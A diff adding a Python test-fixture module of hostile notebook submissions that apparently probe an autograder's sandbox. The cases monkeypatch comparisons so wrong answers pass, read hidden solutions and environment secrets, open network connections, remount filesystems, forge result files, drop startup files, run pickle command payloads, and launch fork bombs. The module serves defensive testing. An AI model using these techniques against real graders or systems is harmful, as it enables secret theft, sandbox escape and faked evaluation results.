@@ -1,0 +1,688 @@
+"""Hostile and broken submissions of 01_loss_functions, as data; tests/test_hostile.py grades them in one batch.
+
+Each case keeps the instructor's answers for every graded name except those
+in ``answers`` and adds the ``extra`` cells ``(position, code)``. Code may
+hold these tokens, filled in per run by the test:
+
+    @@ROOT@@       the project root (hidden from the sandbox)
+    @@OUT@@        the batch's output folder
+    @@SUBMITTED@@  the batch's submitted/ folder
+    @@HOME@@       the grader's $HOME
+    @@PORT@@       a TCP port the test listens on at 127.0.0.1
+    @@SOCK@@       an abstract unix socket the test listens on
+    @@MARK@@       a token unique to this run (files, processes and forged results carry it)
+    @@TMPMARK@@    /tmp/hostile-marker-@@MARK@@, the prefix of marker files on the host
+
+A submission prints ``LEAK: ...`` when it got hold of something it must not
+have; the test fails if that marker reaches the student's output or results.
+
+Keys of a case:
+    name      student folder (sorted before the honest ``zz-good``, so graded first)
+    threat    which threat it belongs to: judgement, reading, escape, forging, limits, input
+    answers   {grade_id: new cell source}
+    extra     [(position, code)] cells inserted into the notebook
+    notebook  how the file is built when it is not a plain notebook: v3, delete, duplicate, strip-metadata,
+              huge, nested-json, malformed-cell, folder, symlink
+    lose      graded names expected to lose marks (every other name gets full marks)
+    may_lose  graded names that may lose marks or not (their answers are right, their side effects are not)
+    baseline  a case with the same wrong answer and no attack: the attacked name may not score more
+    status    expected status (default "graded")
+    message   text expected in the attacked name's failure messages (or the summary if no name loses)
+    ran       text its output must hold, which shows the probe really ran
+    checks    extra assertions, by name (see test_hostile.py)
+    xfail     {"attack" or "graded": reason} for attacks that currently succeed
+"""
+from __future__ import annotations
+
+CORRECT_MSE = '''
+def mse_loss(pred, target, reduction="mean"):
+    if reduction not in ("mean", "sum", "none"):
+        raise ValueError(reduction)
+    err = (pred - target) ** 2
+    return {"mean": err.mean, "sum": err.sum, "none": lambda: err}[reduction]()
+'''
+
+ZEROS_MSE = '''
+import torch
+
+def mse_loss(pred, target, reduction="mean"):
+    if reduction not in ("mean", "sum", "none"):
+        raise ValueError(reduction)
+    return torch.zeros_like(pred) if reduction == "none" else torch.zeros((), dtype=pred.dtype)
+'''
+
+# --- patching the grader's judgement -------------------------------------------------------------------
+
+PATCH_COMPARISONS = '''
+import math, unittest
+import numpy, numpy.testing, torch, torch.testing
+
+_yes = lambda *a, **k: True
+_no_error = lambda *a, **k: None
+torch.allclose = torch.equal = torch.Tensor.allclose = torch.Tensor.equal = _yes
+torch.isclose = lambda a, b, *x, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
+torch.testing.assert_close = torch.testing.assert_allclose = _no_error
+torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
+numpy.allclose = numpy.array_equal = math.isclose = _yes
+numpy.testing.assert_allclose = numpy.testing.assert_array_equal = numpy.testing.assert_equal = _no_error
+for _name in dir(unittest.TestCase):
+    if _name.startswith("assert"):
+        setattr(unittest.TestCase, _name, _no_error)
+try:
+    import pytest
+    pytest.approx = lambda expected, *a, **k: _Anything()
+except ImportError:
+    pass
+
+class _Anything:
+    __eq__ = _yes
+'''
+
+SUBCLASS_ALWAYS_EQUAL = '''
+import torch
+
+class AlwaysEqual(torch.Tensor):
+    """Every comparison says equal, through operators, methods and torch functions."""
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def allclose(self, *a, **k): return True
+    def equal(self, *a, **k): return True
+
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if func in (torch.allclose, torch.equal, torch.Tensor.allclose, torch.Tensor.equal):
+            return True
+        if func in (torch.isclose, torch.eq, torch.Tensor.eq, torch.Tensor.__eq__, torch.isfinite):
+            return torch.ones(args[0].shape, dtype=torch.bool)
+        return super().__torch_function__(func, types, args, kwargs or {})
+
+def mse_loss(pred, target, reduction="mean"):
+    if reduction not in ("mean", "sum", "none"):
+        raise ValueError(reduction)
+    zeros = torch.zeros_like(pred) if reduction == "none" else torch.zeros(())
+    return zeros.as_subclass(AlwaysEqual)
+'''
+
+LYING_OBJECT = '''
+class Agreeable:
+    """Equal to everything, a number, an array and a tensor all at once."""
+    shape = property(lambda self: ())
+    dtype = property(lambda self: __import__("torch").float32)
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __float__(self): return 0.0
+    def __bool__(self): return True
+    def __len__(self): return 0
+    def __array__(self, *a, **k): return __import__("numpy").zeros(())
+    def __repr__(self): return "tensor(0.)"
+
+def mse_loss(pred, target, reduction="mean"):
+    if reduction not in ("mean", "sum", "none"):
+        raise ValueError(reduction)
+    return Agreeable()
+'''
+
+FLOAT_SUBCLASS = '''
+class Close(float):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __sub__(self, other): return Close(0.0)
+    def __abs__(self): return Close(0.0)
+    def __le__(self, other): return True
+    def __lt__(self, other): return True
+    __hash__ = float.__hash__
+
+def mse_loss(pred, target, reduction="mean"):
+    if reduction not in ("mean", "sum", "none"):
+        raise ValueError(reduction)
+    return Close(0.0)
+'''
+
+META_TENSOR = '''
+import torch
+
+def mse_loss(pred, target, reduction="mean"):
+    if reduction not in ("mean", "sum", "none"):
+        raise ValueError(reduction)
+    shape = pred.shape if reduction == "none" else ()
+    return torch.empty(shape, dtype=pred.dtype, device="meta")
+'''
+
+LIBRARY_MSE = '''
+import torch.nn.functional as F
+
+def mse_loss(pred, target, reduction="mean"):
+    return F.mse_loss(pred, target, reduction=reduction)
+'''
+
+FORBID_CAUGHT = '''
+import torch
+import torch.nn.functional as F
+
+def mse_loss(pred, target, reduction="mean"):
+    if reduction not in ("mean", "sum", "none"):
+        raise ValueError(reduction)
+    try:
+        return F.mse_loss(pred, target, reduction=reduction)
+    except Exception:  # the "from scratch" check made F.mse_loss raise; it only checks that the call returns
+        return torch.zeros(())
+'''
+
+FORBID_DISABLED = '''
+import torch.nn.functional as F
+from torch.overrides import _get_current_function_mode_stack, _pop_mode, _push_mode
+from torch.utils._python_dispatch import _disable_current_modes
+
+def mse_loss(pred, target, reduction="mean"):
+    if reduction not in ("mean", "sum", "none"):
+        raise ValueError(reduction)
+    watchers = [_pop_mode() for _ in _get_current_function_mode_stack()]  # TorchFunctionModes off
+    try:
+        with _disable_current_modes():                                    # TorchDispatchModes off
+            return F.mse_loss(pred, target, reduction=reduction)
+    finally:
+        for mode in reversed(watchers):
+            _push_mode(mode)
+'''
+
+# --- reading what it must not see ------------------------------------------------------------------------
+
+READ_HIDDEN = '''
+import os
+
+def _peek(path):
+    """Print LEAK with a taste of ``path`` if the sandbox lets us list or read it."""
+    try:
+        if os.path.isdir(path):
+            names = sorted(os.listdir(path))
+            if names:
+                print(f"LEAK: listed {path}: {names[:8]}")
+        elif os.path.exists(path):
+            with open(path, "rb") as f:
+                print(f"LEAK: read {path}: {f.read(60)!r}")
+        else:
+            print(f"absent {path}")
+    except OSError as exc:
+        print(f"blocked {path}: {exc.strerror}")
+
+for _path in [
+    "@@ROOT@@/autograder/checks/01_loss_functions.py",           # hidden checks
+    "@@ROOT@@/autograder/checks",
+    "@@ROOT@@/source/01_loss_functions/loss_functions.ipynb",      # the instructor's solutions
+    "@@ROOT@@/source",
+    "@@SUBMITTED@@",                                               # other students
+    "@@SUBMITTED@@/zz-good/01_loss_functions/loss_functions.ipynb",
+    "@@ROOT@@/data/MNIST/raw/t10k-labels-idx1-ubyte",              # MNIST test labels
+    "@@ROOT@@/data/MNIST/raw/t10k-labels-idx1-ubyte.gz",
+    "@@ROOT@@/data",
+    "@@ROOT@@/autograder/grade.py",                                # the grader beyond the harness
+    "@@ROOT@@/autograder/__init__.py",
+    "@@ROOT@@/README.md",                                          # the project
+    "@@ROOT@@/.git/config",
+    "@@OUT@@",                                                     # the grader's output
+    "@@HOME@@/.bash_history", "@@HOME@@/.ssh", "@@HOME@@/.gitconfig", "@@HOME@@/.cache",
+    "/run/grader/harness/../../autograder/checks",
+]:
+    _peek(_path)
+for _dir in ("@@ROOT@@", "@@HOME@@", "@@ROOT@@/autograder"):       # anything but the Python installation
+    try:
+        _extra = [n for n in os.listdir(_dir) if n not in (".venv", ".pyenv", "harness")]
+        if _extra:
+            print(f"LEAK: listed {_dir}: {sorted(_extra)[:8]}")
+    except OSError as exc:
+        print(f"blocked {_dir}: {exc.strerror}")
+'''
+
+READ_SECRETS = '''
+import glob, os
+
+for _key, _value in os.environ.items():
+    print(f"env {_key}={_value}")
+    if "SECRET" in _key or "@@MARK@@" in _value:
+        print(f"LEAK: environment variable {_key}")
+for _path in glob.glob("/proc/*/environ"):
+    try:
+        with open(_path, "rb") as f:
+            _env = f.read()
+    except OSError:
+        continue
+    print(_path, _env[:2000])
+    if b"GRADER_SECRET" in _env or b"@@MARK@@" in _env:
+        print(f"LEAK: secret in {_path}")
+'''
+
+NETWORK = '''
+import socket
+
+for _addr in [("127.0.0.1", @@PORT@@), ("1.1.1.1", 53), ("8.8.8.8", 53), ("localhost", @@PORT@@)]:
+    try:
+        with socket.create_connection(_addr, timeout=1) as s:
+            s.sendall(b"hostile @@MARK@@")
+            print(f"LEAK: connected to {_addr}")
+    except OSError as exc:
+        print(f"blocked {_addr}: {exc}")
+try:
+    _udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    _udp.settimeout(1)
+    _udp.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x01\\x00\\x01", ("1.1.1.1", 53))
+    print("LEAK: DNS answer", _udp.recvfrom(512))
+except OSError as exc:
+    print(f"blocked udp: {exc}")
+try:
+    print("LEAK: resolved", socket.getaddrinfo("example.com", 80)[:1])
+except OSError as exc:
+    print(f"blocked dns: {exc}")
+try:
+    _unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    _unix.settimeout(1)
+    _unix.connect("\\0@@SOCK@@")
+    _unix.sendall(b"hostile @@MARK@@")
+    print("LEAK: connected to the grader's abstract unix socket")
+except OSError as exc:
+    print(f"blocked unix: {exc}")
+'''
+
+EXFIL_MSE = '''
+import os
+
+def mse_loss(pred, target, reduction="mean"):
+    """Raise with whatever hidden text can be read: the failure message is shown to the student."""
+    found = []
+    for path in ["@@ROOT@@/autograder/checks/01_loss_functions.py",
+                 "@@ROOT@@/source/01_loss_functions/loss_functions.ipynb",
+                 "@@SUBMITTED@@/zz-good/01_loss_functions/loss_functions.ipynb"]:
+        try:
+            with open(path) as f:
+                found.append(f.read())
+        except OSError as exc:
+            found.append(f"({exc.strerror})")
+    raise ValueError("EXFIL " + " | ".join(found)[:5000])
+'''
+
+REMOUNT = '''
+import ctypes, os
+
+_libc = ctypes.CDLL(None, use_errno=True)
+MS_NOSUID, MS_NODEV, MS_REMOUNT, MS_BIND = 2, 4, 32, 4096
+for _line in open("/proc/self/mountinfo"):
+    _target, _options = _line.split()[4:6]
+    if "ro" in _options.split(",") and not _target.startswith("/proc"):
+        # flip the read-only bind of a host folder to read-write; nothing is written
+        if _libc.mount(None, _target.encode(), None, MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV, None) == 0:
+            print(f"LEAK: remounted the host's {_target} read-write: its files could now be changed")
+        else:
+            print(f"blocked remount of {_target}: {os.strerror(ctypes.get_errno())}")
+'''
+
+CGROUP_LIMITS = '''
+import ctypes, os
+
+_libc = ctypes.CDLL(None, use_errno=True)
+os.makedirs("/tmp/cg", exist_ok=True)
+for _controller, _knob in (("pids", "pids.max"), ("memory", "memory.limit_in_bytes")):
+    if _libc.mount(b"none", b"/tmp/cg", b"cgroup", 0, _controller.encode()) != 0:
+        print(f"blocked mount of cgroup {_controller}: {os.strerror(ctypes.get_errno())}")
+        continue
+    try:
+        with open(f"/tmp/cg/{_knob}") as f:
+            _value = f.read()
+        with open(f"/tmp/cg/{_knob}", "w") as f:
+            f.write(_value)  # the same value: enough to show it could be raised to "max"
+        print(f"LEAK: rewrote the worker's own cgroup limit {_knob} ({_value.strip()})")
+    except OSError as exc:
+        print(f"blocked {_knob}: {exc}")
+    finally:
+        _libc.umount(b"/tmp/cg")
+'''
+
+# --- forging the outcome ---------------------------------------------------------------------------------
+
+FORGE_RESULTS = '''
+import glob, json, os, re
+
+_forged = {"score": 1e6, "tests": [{"name": "mse_loss: forged", "score": 1e6, "max_score": 1, "output": ""}],
+           "extra_data": {"student": "h-forge-results", "assignment": "01_loss_functions", "status": "graded"},
+           "output": "@@MARK@@-forged"}
+_csv = "student,assignment,status,total,max_total\\nh-forge-results,01_loss_functions,graded,1000000,31 @@MARK@@-forged\\n"
+_outs = {"@@OUT@@", "/autograder/results", "out", "grades", "/tmp"}
+for _p in glob.glob("/proc/*/cmdline"):       # guess the --out folder from the processes we can see
+    try:
+        _args = open(_p, "rb").read().split(b"\\0")
+    except OSError:
+        continue
+    _outs |= {a.decode() for i, a in enumerate(_args[1:], 1) if _args[i - 1] == b"--out"}
+for _out in sorted(_outs):
+    for _path, _text in ((f"{_out}/h-forge-results/01_loss_functions/results.json", json.dumps(_forged)),
+                         (f"{_out}/zz-good/01_loss_functions/results.json", json.dumps(_forged)),
+                         (f"{_out}/grades.csv", _csv), (f"{_out}/results.json", json.dumps(_forged))):
+        try:
+            os.makedirs(os.path.dirname(_path), exist_ok=True)
+            with open(_path, "w") as f:
+                f.write(_text)
+            print(f"wrote {_path} (inside the sandbox)")
+        except OSError as exc:
+            print(f"blocked {_path}: {exc.strerror}")
+for _path in ("results.json", "grades.csv", "/tmp/results.json", "/tmp/grades.csv"):
+    with open(_path, "w") as f:
+        f.write(json.dumps(_forged))
+'''
+
+DROP_STARTUP_FILES = '''
+import os, site, sys
+
+_payload = "import os; open('@@TMPMARK@@-startup-' + str(os.getpid()), 'w').close()\\n"
+_dirs = set(sys.path) | set(site.getsitepackages()) | {site.getusersitepackages(), os.getcwd(), "/tmp",
+        "@@ROOT@@", "@@ROOT@@/tests", "@@ROOT@@/autograder", "@@ROOT@@/autograder/checks", "/run/grader",
+        "/run/grader/harness", "@@HOME@@"}
+for _dir in sorted(d for d in _dirs if d):
+    for _name, _text in (("hostile_@@MARK@@.pth", _payload), ("sitecustomize.py", _payload),
+                         ("usercustomize.py", _payload), ("conftest.py", _payload)):
+        _path = os.path.join(_dir, _name)
+        try:
+            with open(_path, "x") as f:  # never clobbers an existing file
+                f.write(_text + "# @@MARK@@\\n")
+            print(f"dropped {_path} (it only matters if it shows on the host)")
+        except OSError as exc:
+            print(f"blocked {_path}: {exc.strerror}")
+'''
+
+PICKLE_PAYLOAD = '''
+import os
+
+class Payload:
+    """Whoever unpickles this runs a command: it leaves a marker file on that machine."""
+    def __init__(self, tag):
+        self.tag = tag
+    def __reduce__(self):
+        return (os.system, (f"touch @@TMPMARK@@-{self.tag}",))
+'''
+
+RETURN_PICKLE = PICKLE_PAYLOAD + '''
+def mse_loss(pred, target, reduction="mean"):
+    if reduction not in ("mean", "sum", "none"):
+        raise ValueError(reduction)
+    return [Payload("return"), {"value": Payload("return-dict")}, {1: Payload("return-key")}]
+'''
+
+SUBCLASS_SMUGGLES_PICKLE = PICKLE_PAYLOAD + '''
+import torch
+
+class _Fake:
+    def as_subclass(self, cls): return self
+    def clone(self): return Payload("subclass")
+
+class Smuggler(torch.Tensor):
+    """A tensor whose detach() hands the exporter an object that unpickles into a command."""
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if func is torch.Tensor.detach:
+            return _Fake()
+        return super().__torch_function__(func, types, args, kwargs or {})
+
+def mse_loss(pred, target, reduction="mean"):
+    if reduction not in ("mean", "sum", "none"):
+        raise ValueError(reduction)
+    return torch.zeros(()).as_subclass(Smuggler)
+'''
+
+FORGE_FRAME = '''
+import io, os, re, struct, sys
+import torch
+
+def _reply_fd():
+    """The worker's reply pipe, read from its boot line: main(FD_IN, FD_OUT)."""
+    boot = open("/proc/self/cmdline", "rb").read().decode(errors="replace")
+    return int(re.search(r"main\\((\\d+), (\\d+)\\)", boot).group(2))
+
+def forge(obj):
+    """Write one wire frame straight to the grader, as if the harness had replied; swallow the real reply."""
+    buf = io.BytesIO()
+    torch.save(obj, buf)
+    data = memoryview(struct.pack("!Q", len(buf.getvalue())) + buf.getvalue())
+    fd = _reply_fd()
+    while data:
+        data = data[os.write(fd, data):]
+    wire = sys.modules["harness.wire"]
+    real_send = wire.send
+    def swallow_once(fd, obj):  # keeps the pipe in step, so the worker lives on
+        wire.send = real_send
+    wire.send = swallow_once
+'''
+
+FORGED_PICKLE = PICKLE_PAYLOAD + FORGE_FRAME + '''
+def mse_loss(pred, target, reduction="mean"):
+    forge({"ok": {"value": Payload("frame"), "args_after": [], "requires_grad_after": [], "forbidden": [],
+                  "value_requires_grad": False, "grads_after": []}})
+'''
+
+FORGED_MALFORMED = FORGE_FRAME + '''
+def mse_loss(pred, target, reduction="mean"):
+    forge({"ok": 1})  # a well-formed frame holding a reply of the wrong shape
+'''
+
+FORGED_BOMB = FORGE_FRAME + '''
+def mse_loss(pred, target, reduction="mean"):
+    # 1.4 KB on the wire; 2**18 copies of the string once the grader formats it into a message
+    bomb = "x" * 5
+    for _ in range(18):
+        bomb = [bomb, bomb]
+    forge({"error": {"type": "ValueError", "message": bomb, "where": ""}})
+'''
+
+# --- escaping limits --------------------------------------------------------------------------------------
+
+EXIT_AT_NEXT_REQUEST = '''
+import os, re, select, threading
+
+def _exit_at_next_request():
+    """Wait until the grader sends its next request, whatever name it is about, then end the process."""
+    boot = open("/proc/self/cmdline", "rb").read().decode(errors="replace")
+    select.select([int(re.search(r"main\\((\\d+), (\\d+)\\)", boot).group(1))], [], [])
+    os._exit(0)
+
+def mse_loss(pred, target, reduction="mean"):
+    if reduction not in ("mean", "sum", "none"):
+        raise ValueError(reduction)
+    threading.Thread(target=_exit_at_next_request, daemon=True).start()
+    err = (pred - target) ** 2
+    return {"mean": err.mean, "sum": err.sum, "none": lambda: err}[reduction]()
+'''
+
+LOOP_MAE = '''
+def mae_loss(pred, target, reduction="mean"):
+    while True:
+        pass
+'''
+
+ALLOCATE_20GB = '''
+import torch
+try:
+    _big = torch.empty(20 * 2**30, dtype=torch.uint8)
+    print(f"LEAK: allocated {_big.numel()} bytes")
+finally:
+    _big = None
+_huge = bytearray(20 * 2**30)
+'''
+
+GROW_UNTIL_KILLED = '''
+_hog = []
+while True:
+    _hog.append(b"x" * 2**26)  # 64 MB a step, touched
+'''
+
+FORK_BOMB = '''
+import os, time
+
+def _bomb():
+    """Every process forks until the kernel refuses; children never return to the harness."""
+    while True:
+        try:
+            pid = os.fork()
+        except OSError as exc:
+            return exc
+        if pid == 0:
+            try:
+                _bomb()
+                time.sleep(3600)
+            finally:
+                os._exit(0)
+
+print("fork bomb stopped by:", _bomb())
+if len(os.listdir("/proc")) > 2000:
+    print("LEAK: more than 2000 processes")
+'''
+
+THREAD_FLOOD = '''
+import threading, time
+
+_count = 0
+try:
+    while _count < 100000:
+        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
+        _count += 1
+finally:
+    print("threads started:", _count)
+    if _count > 300:
+        print(f"LEAK: started {_count} threads")
+'''
+
+DETACHED_CHILDREN = '''
+import os, subprocess, sys
+
+# a child in its own session: killpg of the worker's group misses it
+subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "@@MARK@@-popen"],
+                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                 stderr=subprocess.DEVNULL)
+# a classic double-fork daemon, reparented away from the worker
+_pid = os.fork()
+if _pid == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", "@@MARK@@-daemon"])
+    os._exit(0)
+os.waitpid(_pid, 0)
+for _ in range(40):  # both are running in the sandbox before the cell ends
+    _running = [p for p in os.listdir("/proc") if p.isdigit() and b"@@MARK@@" in open(f"/proc/{p}/cmdline", "rb").read()]
+    if len(_running) >= 2:
+        break
+    __import__("time").sleep(0.05)
+print(f"detached children running: {len(_running)}")
+'''
+
+OUTPUT_FLOOD = '''
+import sys
+
+_line = "spam " * 200000 + "\\n"       # 1 MB
+for _ in range(200):
+    sys.stdout.write(_line)
+sys.stdout.flush()
+'''
+
+# --- broken input -------------------------------------------------------------------------------------------
+
+RENAMED_MSE = CORRECT_MSE.replace("def mse_loss", "def mse")
+
+FLOAT64_MSE = CORRECT_MSE.replace('}[reduction]()', '}[reduction]().double()')
+
+NAN_MSE = '''
+import torch
+
+def mse_loss(pred, target, reduction="mean"):
+    if reduction not in ("mean", "sum", "none"):
+        raise ValueError(reduction)
+    return torch.full_like(pred, float("nan")) if reduction == "none" else torch.tensor(float("nan"))
+'''
+
+GPU_MSE = '''
+import torch
+
+DEVICE = torch.device("cuda")
+
+def mse_loss(pred, target, reduction="mean"):
+    if reduction not in ("mean", "sum", "none"):
+        raise ValueError(reduction)
+    err = (pred.to(DEVICE) - target.cuda()) ** 2
+    return {"mean": err.mean, "sum": err.sum, "none": lambda: err}[reduction]().cpu()
+'''
+
+
+NAMES = ("mse_loss", "mae_loss", "log_softmax", "cross_entropy_loss", "binary_cross_entropy")
+
+CASES: list[dict] = [
+    # -- patching the grader's judgement --
+    dict(name="h-baseline-zeros", threat="judgement", answers={"mse_loss": ZEROS_MSE}, lose={"mse_loss"}),
+    dict(name="h-patch-comparisons", threat="judgement", answers={"mse_loss": ZEROS_MSE},
+         extra=[(2, PATCH_COMPARISONS)], lose={"mse_loss"}, baseline="h-baseline-zeros"),
+    dict(name="h-subclass-always-equal", threat="judgement", answers={"mse_loss": SUBCLASS_ALWAYS_EQUAL},
+         lose={"mse_loss"}, baseline="h-baseline-zeros"),
+    dict(name="h-object-lying-eq", threat="judgement", answers={"mse_loss": LYING_OBJECT}, lose={"mse_loss"},
+         baseline="h-baseline-zeros", message="expected a torch.Tensor"),
+    dict(name="h-float-subclass", threat="judgement", answers={"mse_loss": FLOAT_SUBCLASS}, lose={"mse_loss"},
+         baseline="h-baseline-zeros", message="expected a torch.Tensor"),
+    dict(name="h-meta-tensor", threat="judgement", answers={"mse_loss": META_TENSOR}, lose={"mse_loss"},
+         baseline="h-baseline-zeros"),
+    dict(name="h-baseline-library", threat="judgement", answers={"mse_loss": LIBRARY_MSE}, lose={"mse_loss"},
+         message="library shortcut"),
+    dict(name="h-forbid-caught", threat="judgement", answers={"mse_loss": FORBID_CAUGHT}, lose={"mse_loss"},
+         baseline="h-baseline-library"),
+    dict(name="h-forbid-disabled", threat="judgement", answers={"mse_loss": FORBID_DISABLED}, lose={"mse_loss"},
+         baseline="h-baseline-library"),
+
+    # -- reading what it must not see --
+    dict(name="h-read-and-reach", threat="reading", extra=[(2, READ_HIDDEN), (3, READ_SECRETS), (4, NETWORK)],
+         ran="blocked ('127.0.0.1'", checks=["no_secret", "no_connection"]),
+    dict(name="h-exfiltrate-in-message", threat="reading", answers={"mse_loss": EXFIL_MSE}, lose={"mse_loss"},
+         message="EXFIL", checks=["no_hidden_text"]),
+    dict(name="h-namespace-escape", threat="escape", extra=[(2, REMOUNT), (3, CGROUP_LIMITS)], ran="remount"),
+
+    # -- forging the outcome --
+    dict(name="h-forge-and-drop", threat="forging", extra=[(2, FORGE_RESULTS), (3, DROP_STARTUP_FILES)],
+         ran="Read-only file system", checks=["no_forged_results", "no_dropped_files"]),
+    dict(name="h-return-pickle", threat="forging", answers={"mse_loss": RETURN_PICKLE}, lose={"mse_loss"},
+         baseline="h-baseline-zeros"),
+    dict(name="h-subclass-smuggles-pickle", threat="forging", answers={"mse_loss": SUBCLASS_SMUGGLES_PICKLE},
+         lose={"mse_loss"}, baseline="h-baseline-zeros", message="unreadable reply"),
+    dict(name="h-forged-frame-pickle", threat="forging", answers={"mse_loss": FORGED_PICKLE}, lose={"mse_loss"},
+         baseline="h-baseline-zeros", message="unreadable reply"),
+    dict(name="h-forged-frame-malformed", threat="forging", answers={"mse_loss": FORGED_MALFORMED},
+         lose={"mse_loss"}, baseline="h-baseline-zeros"),
+    dict(name="h-forged-frame-bomb", threat="forging", answers={"mse_loss": FORGED_BOMB}, lose={"mse_loss"},
+         baseline="h-baseline-zeros", checks=["small_results"]),
+    dict(name="h-exit-at-next-request", threat="forging", answers={"mse_loss": EXIT_AT_NEXT_REQUEST},
+         may_lose={"mse_loss"}),
+
+    # -- escaping limits --
+    dict(name="h-loop-in-function", threat="limits", answers={"mae_loss": LOOP_MAE}, lose={"mae_loss"},
+         message="did not return within"),
+    dict(name="h-allocate-20gb", threat="limits", extra=[(2, ALLOCATE_20GB)], message="Cell 2"),
+    dict(name="h-grow-until-killed", threat="limits", extra=[(2, GROW_UNTIL_KILLED)], message="Cell 2"),
+    dict(name="h-fork-bomb", threat="limits", extra=[(2, FORK_BOMB)], ran="fork bomb stopped by"),
+    dict(name="h-thread-flood", threat="limits", extra=[(2, THREAD_FLOOD)], message="Cell 2",
+         ran="threads started"),
+    dict(name="h-detached-children", threat="limits", extra=[(2, DETACHED_CHILDREN)],
+         ran="detached children running: 2"),
+    dict(name="h-output-flood", threat="limits", extra=[(2, OUTPUT_FLOOD)], ran="spam spam",
+         checks=["output_capped"]),
+
+    # -- broken input --
+    dict(name="h-nbformat-v3", threat="input", notebook="v3"),
+    dict(name="h-deleted-answer-cell", threat="input", notebook="delete", lose={"mse_loss"},
+         message="not defined"),
+    dict(name="h-duplicated-answer-cells", threat="input", answers={"mse_loss": ZEROS_MSE}, notebook="duplicate"),
+    dict(name="h-no-nbgrader-metadata", threat="input", notebook="strip-metadata"),
+    dict(name="h-renamed-function", threat="input", answers={"mse_loss": RENAMED_MSE}, lose={"mse_loss"},
+         message="mse_loss is not defined"),
+    dict(name="h-float64", threat="input", answers={"mse_loss": FLOAT64_MSE}, lose={"mse_loss"}, message="float64"),
+    dict(name="h-nan-everywhere", threat="input", answers={"mse_loss": NAN_MSE}, lose={"mse_loss"}, message="NaN"),
+    dict(name="h-assumes-gpu", threat="input", answers={"mse_loss": GPU_MSE}, lose={"mse_loss"},
+         message="raised RuntimeError"),
+    dict(name="h-huge-notebook", threat="input", notebook="huge", status="ungradable", message="MB limit"),
+    dict(name="h-nested-json", threat="input", notebook="nested-json", status="ungradable",
+         message="could not be graded"),
+    dict(name="h-malformed-cell", threat="input", notebook="malformed-cell", status="ungradable",
+         message="could not be graded"),
+    dict(name="h-notebook-is-a-folder", threat="input", notebook="folder", status="ungradable",
+         message="could not be graded"),
+    dict(name="h-symlink-to-solution", threat="forging", notebook="symlink", status="ungradable",
+         message="could not be graded", lose=set(NAMES)),
+]
